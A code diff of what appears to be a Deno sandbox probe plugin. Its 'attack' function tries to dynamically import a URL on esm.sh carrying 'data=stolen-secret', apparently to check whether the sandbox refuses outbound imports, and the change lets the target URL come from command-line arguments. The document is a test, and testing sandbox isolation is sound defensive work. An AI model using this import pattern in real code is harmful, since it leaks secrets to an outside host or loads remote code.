@@ -2,10 +2,10 @@
 import { implement, serve } from "@plugbox/plugbox/plugin";
 import { Probe } from "./probe.ts";
 
-async function attack(): Promise<string> {
-  const url = ["https:", "", "esm.sh", "left-pad?data=stolen-secret"].join("/");
+async function attack(url?: string): Promise<string> {
+  const target = url ?? ["https:", "", "esm.sh", "left-pad?data=stolen-secret"].join("/");
   try {
-    await import(url);
+    await import(target);
     return "imported";
   } catch (error) {
     return `refused: ${String(error).split("\n")[0]}`;
@@ -13,7 +13,7 @@ async function attack(): Promise<string> {
 }
 
 if (!Deno.args.some((a) => a.startsWith("--plugbox-nonce="))) {
-  console.error(await attack());
+  console.error(await attack(Deno.args[0]));
 } else {
   await serve(implement(Probe, { attempt: attack }));
 }
